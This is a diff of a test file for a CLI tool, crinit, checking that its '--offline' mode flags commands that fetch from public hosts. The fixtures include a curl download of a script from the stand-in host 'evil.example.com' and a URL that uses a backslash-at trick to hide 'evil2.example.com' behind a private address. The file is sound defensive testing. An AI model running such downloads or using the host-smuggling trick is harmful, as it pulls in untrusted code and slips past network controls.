@@ -105,11 +105,56 @@ describe('mirrors, manifest and --offline', () => {
     );
     const r = runCli(['render', '--offline', file]);
     expect(r.status).toBe(1);
-    expect(r.stderr).toContain('names the public host tools.example.com');
+    expect(r.stderr).toContain('commands[0] runs curl https://tools.example.com/tool, which fetches from the public host tools.example.com');
     expect(r.stderr).toContain('/etc/motd names the public host wiki.example.org');
     // Private addresses and the profile's own hosts are not public.
     const priv = writeTemp(dir, 'priv.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\ncommands:\n  - curl -fsS http://10.1.2.3:8080/ready https://mirror.corp.internal/x http://[fd00::5]/y\n`);
     expect(runCli(['render', '--offline', priv]).status).toBe(0);
+  });
+
+  it('--offline reads hosts the way the fetcher will: no scheme, curl\'s \\@, image pulls, kubeadm, git, --part scripts, and says so when it cannot tell', () => {
+    const dir = tempDir();
+    const commands = [
+      'curl -fsSL evil.example.com/x.sh -o /tmp/x',
+      'curl "http://10.0.0.1\\@evil2.example.com/x"',
+      'ctr images pull docker.io/library/nginx:latest',
+      'kubeadm config images pull',
+      'git clone git@git.example.com:ops/node.git',
+      'curl "$TOOL_URL"',
+      'curl http://[::ffff:10.0.0.1]/ready',
+    ];
+    const file = writeTemp(dir, 'node.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\ncommands: ${JSON.stringify(commands)}\n`);
+    const r = runCli(['render', '--offline', file]);
+    expect(r.status, r.stderr).toBe(1);
+    expect(r.stdout).toBe('');
+    const lines = r.stderr.split('\n').filter((l) => l.includes('E-OFFLINE'));
+    expect(lines).toEqual([
+      'error E-OFFLINE: --offline: commands[0] runs curl evil.example.com/x.sh, which fetches from the public host evil.example.com',
+      'error E-OFFLINE: --offline: commands[1] runs curl http://***@evil2.example.com/x, which fetches from the public host evil2.example.com',
+      'error E-OFFLINE: --offline: commands[2] runs ctr images pull docker.io/library/nginx:latest, which fetches from the public host docker.io',
+      'error E-OFFLINE: --offline: commands[3] runs kubeadm config images pull, which fetches from the public host registry.k8s.io',
+      'error E-OFFLINE: --offline: commands[4] runs git clone git@git.example.com:ops/node.git, which fetches from the public host git.example.com',
+      'error E-OFFLINE: --offline: commands[5] runs curl $TOOL_URL, and crinit cannot tell which host that fetches from',
+    ]);
+    // kubeadm and crictl pull through the runtime: its registry mirrors cover them.
+    const mirrored = writeTemp(dir, 'm.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\nruntime:\n  registryMirrors: {registry.k8s.io: ["https://registry.corp.internal/k8s"], docker.io: ["https://registry.corp.internal/hub"]}\ncommands: ["kubeadm config images pull", "crictl pull nginx"]\n`);
+    const m = runCli(['render', '--offline', mirrored]);
+    expect(m.status, m.stderr).toBe(0);
+    // A part of --format mime is read too.
+    writeTemp(dir, 'extra.sh', '#!/bin/sh\nwget cdn.example.org/tool\n');
+    const clean = writeTemp(dir, 'clean.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\n`);
+    const part = runCli(['render', '--offline', '--format', 'mime', '--part', join(dir, 'extra.sh'), clean]);
+    expect(part.status, part.stderr).toBe(1);
+    expect(part.stderr).toContain('error E-OFFLINE: --offline: the part extra.sh runs wget cdn.example.org/tool, which fetches from the public host cdn.example.org');
+  });
+
+  it('--offline names a Terraform variable as written, not by crinit\'s internal word', () => {
+    const dir = tempDir();
+    const file = writeTemp(dir, 'node.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\nterraform:\n  variables: [site]\ncommands:\n  - curl -fsS https://\${site}.example.com/ready\n`);
+    const r = runCli(['render', '--offline', '--format', 'tftpl', file]);
+    expect(r.status, r.stderr).toBe(1);
+    expect(r.stderr).toContain('runs curl https://${site}.example.com/ready, which fetches from the public host ${site}.example.com');
+    expect(r.stderr).not.toContain('crinittfvar');
   });
 
   it('crinit manifest --json: repositories with their keys and packages, the download with its sha256, the image', () => {
